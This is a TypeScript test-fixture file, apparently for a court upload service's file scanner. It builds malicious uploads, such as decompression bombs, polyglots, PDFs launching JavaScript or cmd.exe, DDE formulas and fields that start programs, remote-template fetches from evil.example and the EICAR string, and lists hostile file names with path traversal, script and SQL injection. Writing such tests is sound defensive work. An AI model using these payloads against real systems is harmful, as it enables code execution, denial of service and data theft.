import { crc32, deflateSync } from 'node:zlib';
import sharp from 'sharp';
import { pdfOf, written } from '../paper.suite.ts';
import { paragraph, relation, relations, wordOf, zipOf } from '../zip.suite.ts';

/** A file that means harm, and how the court answers: the code of the refusal, or `disarmed` where it is taken and nothing of it is left. */
export type BadFile = { name: string; as: string; make: () => Buffer | Promise<Buffer>; answer: string | readonly string[] };

/** The test file by which scanners are tried out, in pieces: this source is no virus. */
export const VIRUS = ['X5O!P%@AP[4\\PZX54(P^)7CC)7}$', 'EICAR-STANDARD-', 'ANTIVIRUS-TEST-FILE', '!$H+H*'].join('');
export const SCRIPT = '<script>alert(document.cookie)</script>';

const photo = (): Promise<Buffer> => sharp({ create: { width: 300, height: 200, channels: 3, background: '#abcdef' } }).jpeg().toBuffer();
const chunk = (type: string, data: Buffer): Buffer => {
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]), out = Buffer.alloc(body.length + 8);
  out.writeUInt32BE(data.length, 0);
  body.copy(out, 4);
  out.writeUInt32BE(crc32(body), body.length + 4);
  return out;
};
/** A PNG that claims so many points. */
function png(width: number, height: number): Buffer {
  const head = Buffer.alloc(13);
  head.writeUInt32BE(width, 0);
  head.writeUInt32BE(height, 4);
  head.set([8, 6, 0, 0, 0], 8);
  return Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), chunk('IHDR', head), chunk('IDAT', deflateSync(Buffer.alloc(1_000_000))), chunk('IEND', Buffer.alloc(0))]);
}
/** A TIFF of very many pages: directories that name one another. */
function tiff(pages: number): Buffer {
  const out = Buffer.alloc(8 + pages * 18);
  out.write('II*\0', 0, 'latin1');
  out.writeUInt32LE(8, 4);
  for (let i = 0; i < pages; i++) {
    const at = 8 + i * 18;
    out.writeUInt16LE(1, at);
    out.writeUInt16LE(256, at + 2);
    out.writeUInt16LE(3, at + 4);
    out.writeUInt32LE(1, at + 6);
    out.writeUInt32LE(1, at + 10);
    out.writeUInt32LE(i + 1 < pages ? at + 18 : 0, at + 14);
  }
  return out;
}
/** A GIF of very many pictures of one point. */
function gif(frames: number): Buffer {
  const frame = Buffer.from([0x21, 0xf9, 4, 0, 0, 0, 0, 0, 0x2c, 0, 0, 0, 0, 1, 0, 1, 0, 0, 2, 2, 0x44, 1, 0]);
  return Buffer.concat([Buffer.from('GIF89a'), Buffer.from([1, 0, 1, 0, 0x80, 0, 0, 0, 0, 0, 255, 255, 255]), ...Array.from({ length: frames }, () => frame), Buffer.from([0x3b])]);
}

/** A PDF of one page whose objects are these, from the third on; `{content}` of the page is object 3. */
const page = (...objects: readonly string[]): Buffer => written([
  '', '<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Count 1 /Kids [4 0 R] >>', objects[0] ?? '<< /Length 0 >>\nstream\n\nendstream',
  objects[1] ?? '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 3 0 R >>', ...objects.slice(2),
]);
const catalogue = (more: string): Buffer => pdfOf([['一页']], { more });
/** A stream that unpacks to very much more, as text. */
function flateBomb(megabytes: number): Buffer {
  const packed = deflateSync(Buffer.alloc(megabytes * 1_000_000, '0 0 m 9 9 l S '), { level: 9 });
  const head = Buffer.from(`%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Count 1 /Kids [4 0 R] >>\nendobj\n4 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 3 0 R >>\nendobj\n3 0 obj\n<< /Length ${packed.length} /Filter /FlateDecode >>\nstream\n`);
  return Buffer.concat([head, packed, Buffer.from('\nendstream\nendobj\ntrailer << /Root 1 0 R >>\n%%EOF')]);
}
/** An object stream that hides a script behind a second packing. */
const hidden = (): Buffer => Buffer.concat([Buffer.from('%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n5 0 obj << /Type /ObjStm /N 1 /First 4 /Filter [/ASCIIHexDecode /FlateDecode] /Length 9 >>\nstream\n'),
  Buffer.from(deflateSync(Buffer.from('1 0 << /S /JavaScript /JS (1) >>')).toString('hex')), Buffer.from('>\nendstream endobj\n%%EOF')]);
const attachment = (name: string): Buffer => written([
  '', '<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles << /Names [(a) 5 0 R] >> >> >>', '<< /Type /Pages /Count 1 /Kids [4 0 R] >>', '<< /Length 0 >>\nstream\n\nendstream',
  '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 3 0 R >>', `<< /Type /Filespec /F (${name}) /UF (${name}) /EF << /F 6 0 R >> >>`, '<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream',
]);
const external = (type: string, target: string): string => `<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/></Relationships>`;
const field = (...parts: readonly string[]): string => `<w:p>${parts.map((part) => `<w:r><w:instrText>${part}</w:instrText></w:r>`).join('')}</w:p>`;
const sheet = (formula: string): Buffer => zipOf({ '[Content_Types].xml': '<Types/>', 'xl/workbook.xml': '<workbook/>', 'xl/worksheets/sheet1.xml': `<worksheet><c r="A1"><f>${formula}</f></c></worksheet>` });
const nested = (depth: number): Buffer => { let inner = zipOf({ '0.txt': Buffer.alloc(1_000_000) }); for (let i = 0; i < depth; i++) inner = zipOf({ 'a.zip': inner, 'b.zip': inner }); return inner; };

/** Files that mean harm, each as what it calls itself. */
export const BAD_FILES: readonly BadFile[] = [
  { name: 'a PDF that is an archive too', as: '合同.pdf', make: () => Buffer.concat([pdfOf([['甲']]), zipOf({ 'a.html': SCRIPT })]), answer: 'files.two-files' },
  { name: 'a picture that is an archive too', as: '照片.gif', make: () => Buffer.concat([gif(1), zipOf({ 'Evil.class': 'x' })]), answer: 'disarmed' },
  { name: 'a picture with a page of HTML in it', as: '照片.jpg', make: async () => { const jpeg = await photo(), note = Buffer.from(SCRIPT), head = Buffer.from([0xff, 0xfe, 0, note.length + 2]); return Buffer.concat([jpeg.subarray(0, 2), head, note, jpeg.subarray(2), note]); }, answer: 'disarmed' },
  { name: 'a sound that is an archive too', as: '录音.mp3', make: () => Buffer.concat([Buffer.from('ID3'), Buffer.from([3, 0, 0, 0, 0, 0, 0]), Buffer.from([0xff, 0xfb, 0x90, 0]), Buffer.alloc(2_000), zipOf({ 'a.exe': 'MZ' })]), answer: 'files.two-files' },
  { name: 'archives within archives', as: '证据.zip', make: () => nested(6), answer: 'files.type-refused' },
  { name: 'a bomb that calls itself Word', as: '合同.docx', make: () => wordOf('', { 'word/media/a.xml': Buffer.alloc(60_000_000, ' ') }), answer: 'files.bomb' },
  { name: 'a bomb that lies about its size', as: '合同.docx', make: () => zipOf({ '[Content_Types].xml': '<Types/>', 'word/document.xml': Buffer.alloc(60_000_000, ' ') }, { claimed: 2_000 }), answer: ['files.bomb', 'files.damaged'] },
  { name: 'Word with an archive inside', as: '合同.docx', make: () => wordOf('', { 'word/embeddings/a.zip': nested(2) }), answer: 'files.embedded' },
  { name: 'a picture of 50,000 by 50,000 points', as: '照片.png', make: () => png(50_000, 50_000), answer: 'files.image-too-large' },
  { name: 'a picture that ends before it begins', as: '照片.png', make: () => png(9_000, 9_000), answer: 'files.image-unreadable' },
  { name: 'a picture of 20,000 pages', as: '扫描.tif', make: () => tiff(20_000), answer: 'files.type-refused' },
  { name: 'a picture that moves 20,000 times', as: '动图.gif', make: () => gif(20_000), answer: 'disarmed' },
  { name: 'a PDF whose page unpacks to a gigabyte', as: '合同.pdf', make: () => flateBomb(900), answer: ['files.too-costly', 'files.bomb', 'files.damaged'] },
  { name: 'a PDF of 100,000 pages', as: '合同.pdf', make: () => written(['', '<< /Type /Catalog /Pages 2 0 R >>', `<< /Type /Pages /Count 100000 /Kids [${'3 0 R '.repeat(100_000)}] >>`, '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>']), answer: 'files.too-many-pages' },
  { name: 'a PDF whose page tree bites its tail', as: '合同.pdf', make: () => written(['', '<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Count 1 /Kids [3 0 R] >>', '<< /Type /Pages /Count 1 /Parent 2 0 R /Kids [2 0 R] >>']), answer: 'files.damaged' },
  { name: 'a PDF that starts a script', as: '合同.pdf', make: () => catalogue('/OpenAction << /S /JavaScript /JS (app.alert(1)) >>'), answer: 'files.dangerous' },
  { name: 'a PDF that hides a script twice', as: '合同.pdf', make: hidden, answer: 'files.dangerous' },
  { name: 'a PDF that starts a program', as: '合同.pdf', make: () => catalogue('/OpenAction << /S /Launch /F (cmd.exe) >>'), answer: 'files.dangerous' },
  { name: 'a PDF with a program packed in it', as: '合同.pdf', make: () => attachment('a.exe'), answer: 'files.embedded' },
  { name: 'a PDF under a password', as: '合同.pdf', make: () => catalogue('/Encrypt << /Filter /Standard >>'), answer: 'files.encrypted' },
  { name: 'a PDF that is none', as: '合同.pdf', make: () => Buffer.from('%PDF-1.7\nnothing of the kind'), answer: 'files.damaged' },
  { name: 'a drawing with a script', as: '图.svg', make: () => Buffer.from(`<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg">${SCRIPT}</svg>`), answer: 'files.type-refused' },
  { name: 'Word with macros', as: '合同.docx', make: () => wordOf('', { 'word/vbaProject.bin': 'x' }), answer: 'files.macros' },
  { name: 'Word with macros by another name', as: '合同.docx', make: () => wordOf('', { '[Content_Types].xml': '<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>' }), answer: 'files.macros' },
  { name: 'Word that starts a program by a field', as: '合同.docx', make: () => wordOf(field('DDEAUTO c:\\\\cmd.exe')), answer: 'files.macros' },
  { name: 'the same, cut into pieces', as: '合同.docx', make: () => wordOf(field('D', 'DEA', 'UTO cmd')), answer: 'files.macros' },
  { name: 'Word that fetches its template', as: '合同.docx', make: () => wordOf(paragraph('甲'), { 'word/_rels/settings.xml.rels': external('attachedTemplate', 'http://evil.example/a.dotm') }), answer: 'files.external' },
  { name: 'Word that fetches an object', as: '合同.docx', make: () => wordOf(paragraph('甲'), { 'word/_rels/document.xml.rels': external('oleObject', 'mhtml:http://evil.example/x.html!x') }), answer: 'files.external' },
  { name: 'Word that reaches for a disk of the court', as: '合同.docx', make: () => wordOf(paragraph('甲'), { 'word/_rels/document.xml.rels': external('image', '\\\\evil.example\\share\\a.png') }), answer: 'files.external' },
  { name: 'Word with an object of another program', as: '合同.docx', make: () => wordOf('', { 'word/embeddings/oleObject1.bin': 'x', 'word/_rels/document.xml.rels': relations(relation('r1', 'embeddings/oleObject1.bin')) }), answer: 'files.embedded' },
  { name: 'a sheet that starts a program', as: '流水.xlsx', make: () => sheet('cmd|\' /C calc\'!A0'), answer: 'files.macros' },
  { name: 'a table of text that starts a program', as: '流水.csv', make: () => Buffer.from('姓名,金额\n张三,=cmd|\'/C calc\'!A0\n'), answer: 'files.macros' },
  { name: 'the test virus', as: '说明.txt', make: () => Buffer.from(VIRUS), answer: 'files.virus' },
  { name: 'the test virus in Word', as: '合同.docx', make: () => wordOf('', { 'word/media/a.dat': VIRUS }), answer: 'files.virus' },
  { name: 'the test virus in an archive', as: '证据.zip', make: () => zipOf({ 'a.com': VIRUS }), answer: 'files.type-refused' },
  { name: 'the test virus in a PDF', as: '合同.pdf', make: () => page(`<< /Length ${VIRUS.length} >>\nstream\n${VIRUS}\nendstream`), answer: 'files.virus' },
  { name: 'a program called PDF', as: '合同.pdf', make: () => Buffer.concat([Buffer.from('MZ'), Buffer.alloc(500)]), answer: 'files.type-refused' },
  { name: 'a page of HTML called text', as: '说明.txt', make: () => Buffer.from(`<!DOCTYPE html>${SCRIPT}`), answer: 'files.type-refused' },
];

/** Files that look strange and mean no harm: they are taken, and the process that opens them lives. */
export const ODD_FILES: readonly { name: string; make: () => Buffer }[] = [
  { name: 'a PDF as large as a field', make: () => pdfOf([['甲']], { size: [200_000, 200_000] }) },
  { name: 'a PDF that paints itself within itself', make: () => page('<< /Length 5 >>\nstream\n/X Do\nendstream', '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 3 0 R /Resources << /XObject << /X 5 0 R >> >> >>',
    '<< /Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 5 0 R >> >> /Length 5 >>\nstream\n/X Do\nendstream') },
  { name: 'an electronic invoice with its data', make: () => attachment('invoice.xbrl') },
  { name: 'Word with a link to a page', make: () => wordOf(paragraph('甲'), { 'word/_rels/document.xml.rels': external('hyperlink', 'https://www.court.gov.cn/') }) },
];

/** Names of files as nobody should give them. */
export const BAD_NAMES: readonly string[] = ['a\u0000.pdf', '合同\u202efdp.exe', '\u0007铃.pdf', `${'长'.repeat(10_000)}.pdf`, 'a\ud800.pdf', ''];
/** Names that look strange and are names: shown as they are, and harmless as files. */
export const ODD_NAMES: readonly string[] = ['../../../etc/passwd', 'C:\\Windows\\system32\\cmd.exe', '😀🧾.pdf', '"><script>alert(1)</script>.pdf', 'CON', '.htaccess', "a'; drop table files; --.pdf", '合同（１）.pdf'];
